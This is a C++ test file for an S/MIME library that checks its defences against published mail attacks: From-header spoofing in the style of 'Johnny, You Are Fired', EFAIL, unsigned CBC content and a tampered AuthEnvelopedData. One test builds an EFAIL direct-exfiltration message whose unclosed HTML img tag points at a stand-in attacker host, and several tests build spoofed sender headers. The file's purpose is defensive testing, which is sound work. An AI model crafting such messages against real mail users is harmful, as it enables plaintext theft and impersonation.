// The reader's decisions against published attacks (docs/smime.md, "Reading"):
// identity ("Johnny, You Are Fired"), unsigned CBC content and direct
// exfiltration (EFAIL), a damaged AuthEnvelopedData. Messages are made by the
// library and then altered as an attacker would; tests/interop/attacks.py
// does the same end to end with openssl-made messages.

#include <gtest/gtest.h>

#include "mailseal/common/error.h"
#include "mailseal/smime/smime.h"
#include "smime/internal/identity.h"
#include "test_identities.h"

namespace mailseal::smime {
namespace {

using test::alice;
using test::bob;

const test::Person& mallory() {
  static const test::Person person = test::make_person("mallory@evil.example");
  return person;
}

const std::string kLetter =
    "From: Alice <alice@example.com>\r\n"
    "To: Bob <bob@example.org>\r\n"
    "Subject: Lunch\r\n"
    "\r\n"
    "Shall we meet at noon?\r\n";

std::string replace(std::string text, const std::string& from, const std::string& to) {
  auto at = text.find(from);
  EXPECT_NE(at, std::string::npos) << from;
  if (at != std::string::npos)
    text.replace(at, from.size(), to);
  return text;
}

std::string sign(const std::string& message, const test::Person& signer) {
  MemorySource source(as_bytes(message));
  OutgoingMessage outgoing = OutgoingMessage::read(source);
  StringSink out;
  sign_message(outgoing, out, signer.signer(), SignatureForm::Detached, mailseal::now());
  return out.take();
}

std::string encrypt(const std::string& message, ContentCipher cipher, const test::Person* signer = nullptr) {
  MemorySource source(as_bytes(message));
  OutgoingMessage outgoing = OutgoingMessage::read(source);
  StringSink out;
  std::optional<SignerIdentity> identity;
  if (signer != nullptr)
    identity = signer->signer();
  encrypt_message(outgoing, out, {{bob().encryption}, identity ? &*identity : nullptr, {cipher, false}},
                  mailseal::now());
  return out.take();
}

ReadResult read(const std::string& message, std::vector<EmailAddress> reader = {}) {
  std::vector<DecryptionKey> keys = {bob().decryption()};
  Policy policy = Policy::standard(mailseal::now());
  policy.reader_addresses = std::move(reader);
  return read_message(as_bytes(message), keys, policy);
}

bool mentions(const std::vector<std::string>& texts, const std::string& a, const std::string& b = "") {
  for (const auto& text : texts) {
    if (text.find(a) != std::string::npos && (b.empty() || text.find(b) != std::string::npos))
      return true;
  }
  return false;
}

// The entity of a message with a base64 body, its CMS structure changed.
std::string alter_der(const std::string& message, std::size_t from_end) {
  mime::Entity entity = mime::Entity::parse(message);
  Bytes der = mime::decode_body(entity);
  der.at(der.size() - from_end) ^= 0x20;
  return std::string(entity.header_block) + "\r\n\r\n" + mime::encode_base64_lines(der);
}

TEST(SmimeAttacks, TwoFromFieldsMakeTheSignatureInvalidAndWithholdTheContent) {
  ReadResult result = read("From: mallory@evil.example\r\n" + sign(kLetter, alice()));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  EXPECT_TRUE(mentions(result.identity_problems, "alice@example.com", "mallory@evil.example"));
  Release release = Release::of_verified(result);
  EXPECT_EQ(release.withheld(), Withheld::IdentityMismatch);
}

TEST(SmimeAttacks, AFromWithTwoMailboxesIsAnIdentityProblem) {
  ReadResult result = read(replace(sign(kLetter, alice()), "From: Alice <alice@example.com>",
                                   "From: Alice <alice@example.com>, mallory@evil.example"));
  EXPECT_TRUE(mentions(result.identity_problems, "2 mailboxes"));
  EXPECT_FALSE(result.signature->valid);
}

TEST(SmimeAttacks, ASignerOtherThanTheFromIsBadNamingBoth) {
  // Mallory signs as himself, then changes the (unsigned) outer From.
  std::string signed_message = sign(replace(kLetter, "Alice <alice@example.com>", "mallory@evil.example"), mallory());
  ReadResult result = read(replace(signed_message, "From: mallory@evil.example", "From: alice@example.com"));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  EXPECT_TRUE(mentions(result.signature->problems, "mallory@evil.example", "alice@example.com"));
}

TEST(SmimeAttacks, AProtectedFromThatIsNotTheOuterFromIsRefusedWhateverIsAllowed) {
  // Encrypted and signed by Mallory (protected From mallory), outer From
  // changed to Alice: the layers disagree.
  std::string mallory_letter = replace(kLetter, "Alice <alice@example.com>", "mallory@evil.example");
  std::string message = replace(encrypt(mallory_letter, ContentCipher::Aes256Gcm, &mallory()),
                                "From: mallory@evil.example", "From: alice@example.com");
  ReadResult result = read(message);
  ASSERT_TRUE(result.decrypted);
  EXPECT_TRUE(mentions(result.identity_problems, "mallory@evil.example", "alice@example.com"));
  ASSERT_TRUE(result.signature);
  EXPECT_FALSE(result.signature->valid);
  Release release = Release::of_decrypted(result, BadSignature::Release, Unauthenticated::Release);
  EXPECT_EQ(release.withheld(), Withheld::IdentityMismatch);
}

TEST(SmimeAttacks, ADisplayNameWithAnotherAddressAndASenderAreReported) {
  std::string letter = "Sender: mallory@evil.example\r\n" +
                       replace(kLetter, "Alice <alice@example.com>", "\"bob@example.org\" <alice@example.com>");
  ReadResult result = read(sign(letter, alice()));
  ASSERT_TRUE(result.signature);
  EXPECT_TRUE(result.signature->valid);
  EXPECT_TRUE(mentions(result.warnings, "display name", "bob@example.org"));
  EXPECT_TRUE(mentions(result.warnings, "Sender", "mallory@evil.example"));
}

TEST(SmimeAttacks, AnOrdinaryDisplayNameIsNotReported) {
  ReadResult result = read(sign(kLetter, alice()));
  EXPECT_TRUE(result.warnings.empty());
  EXPECT_TRUE(result.identity_problems.empty());
}

TEST(SmimeAttacks, SignedToAndCcThatDoNotNameTheReaderAreReported) {
  std::string message = encrypt(kLetter, ContentCipher::Aes256Gcm, &alice());
  ReadResult forwarded = read(message, {EmailAddress::parse("carol@example.net")});
  EXPECT_EQ(forwarded.addressed_to_reader, std::optional<bool>(false));
  EXPECT_TRUE(mentions(forwarded.warnings, "carol@example.net", "forwarded"));
  ReadResult addressed = read(message, {EmailAddress::parse("bob@example.org")});
  EXPECT_EQ(addressed.addressed_to_reader, std::optional<bool>(true));
  ReadResult unknown = read(message);
  EXPECT_FALSE(unknown.addressed_to_reader.has_value());
}

TEST(SmimeAttacks, UnsignedCbcContentIsWithheldUnlessAskedFor) {
  ReadResult withheld = read(encrypt(kLetter, ContentCipher::Aes256Cbc));
  ASSERT_TRUE(withheld.decrypted);
  Release release = Release::of_decrypted(withheld, BadSignature::Withhold);
  EXPECT_EQ(release.withheld(), Withheld::Unauthenticated);
  EXPECT_THROW((void)release.content(), Error);
  ReadResult asked = read(encrypt(kLetter, ContentCipher::Aes256Cbc));
  EXPECT_TRUE(Release::of_decrypted(asked, BadSignature::Withhold, Unauthenticated::Release).released());
}

TEST(SmimeAttacks, SignedCbcAndUnsignedGcmContentAreReleased) {
  ReadResult signed_cbc = read(encrypt(kLetter, ContentCipher::Aes256Cbc, &alice()));
  EXPECT_TRUE(Release::of_decrypted(signed_cbc, BadSignature::Withhold).released());
  ReadResult gcm = read(encrypt(kLetter, ContentCipher::Aes256Gcm));
  EXPECT_TRUE(Release::of_decrypted(gcm, BadSignature::Withhold).released());
}

TEST(SmimeAttacks, ADamagedGcmTagIsReportedAsAlteredInTransit) {
  // A long body: the last kilobyte of the structure is ciphertext, then the tag.
  std::string message = encrypt(kLetter + std::string(4000, 'x') + "\r\n", ContentCipher::Aes256Gcm);
  for (std::size_t from_end : {std::size_t{1000}, std::size_t{40}}) {
    try {
      (void)read(alter_der(message, from_end));
      FAIL() << "a damaged AuthEnvelopedData was read";
    } catch (const Error& error) {
      EXPECT_EQ(error.code(), ErrorCode::BadSignature) << error.what();
      EXPECT_NE(std::string(error.what()).find("altered in transit"), std::string::npos) << error.what();
    }
  }
}

TEST(SmimeAttacks, AnEncryptedPartThatIsNotTheRootIsNotOpened) {
  std::string encrypted = encrypt(kLetter, ContentCipher::Aes256Gcm);
  std::string body = encrypted.substr(encrypted.find("Content-Type:"));
  std::string wrapped =
      "From: mallory@evil.example\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
      "<img src=\"http://evil.example/?\r\n--x\r\n" +
      body + "\r\n--x--\r\n";
  ReadResult result = read(wrapped);
  EXPECT_FALSE(result.decrypted);
  EXPECT_TRUE(result.encrypted_part_only);
  std::string attached =
      "From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + encrypted;
  EXPECT_TRUE(read(attached).encrypted_part_only);
}

TEST(SmimeAttacks, ASignedPartThatIsNotTheRootCountsForNothing) {
  std::string signed_message = sign(kLetter, alice());
  std::string wrapped =
      "From: alice@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n"
      "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n" +
      signed_message + "\r\n--x--\r\n";
  ReadResult result = read(wrapped);
  EXPECT_FALSE(result.signature);
  EXPECT_TRUE(result.signed_part_only);
  EXPECT_EQ(Release::of_verified(result).withheld(), Withheld::NotSigned);
}

TEST(SmimeAttacks, OuterFieldsThatDifferFromTheSignedOnesAreReported) {
  mime::Headers outer = mime::Headers::parse(
      "From: alice@example.com\r\nTo: bob@example.org\r\nSubject: You are fired\r\nReply-To: mallory@evil.example");
  mime::Headers signed_fields =
      mime::Headers::parse("From: alice@example.com\r\nTo: bob@example.org\r\nSubject: Lunch");
  std::vector<std::string> warnings;
  internal::compare_with_signed(outer, signed_fields, warnings);
  ASSERT_EQ(warnings.size(), 2u);
  EXPECT_TRUE(mentions(warnings, "Subject", "You are fired"));
  EXPECT_TRUE(mentions(warnings, "Reply-To", "not signed"));
}

TEST(SmimeAttacks, SingleFromNamesEveryMailboxItRefuses) {
  std::vector<std::string> problems, notes;
  auto two = mime::Headers::parse("From: alice@example.com\r\nFrom: mallory@evil.example");
  EXPECT_FALSE(internal::single_from(two, "the message", problems, notes));
  EXPECT_TRUE(mentions(problems, "alice@example.com", "mallory@evil.example"));
  problems.clear();
  auto one = mime::Headers::parse("From: =?utf-8?q?Alice?= <alice@example.com>");
  EXPECT_EQ(internal::single_from(one, "the message", problems, notes), EmailAddress::parse("alice@example.com"));
  EXPECT_TRUE(problems.empty());
  auto invalid = mime::Headers::parse("From: User1");
  EXPECT_FALSE(internal::single_from(invalid, "the message", problems, notes));
  EXPECT_TRUE(problems.empty()) << "nothing to confuse: a note, and a signature finds no From to match";
  EXPECT_FALSE(notes.empty());
}

TEST(SmimeAttacks, AnEncodedDisplayNameHidingAnAddressIsReported) {
  std::vector<std::string> warnings;
  auto headers = mime::Headers::parse("From: =?utf-8?b?Ym9iQGV4YW1wbGUub3Jn?= <alice@example.com>");
  internal::check_shown_identity(headers, EmailAddress::parse("alice@example.com"), warnings);
  EXPECT_TRUE(mentions(warnings, "bob@example.org"));
}

}  // namespace
}  // namespace mailseal::smime
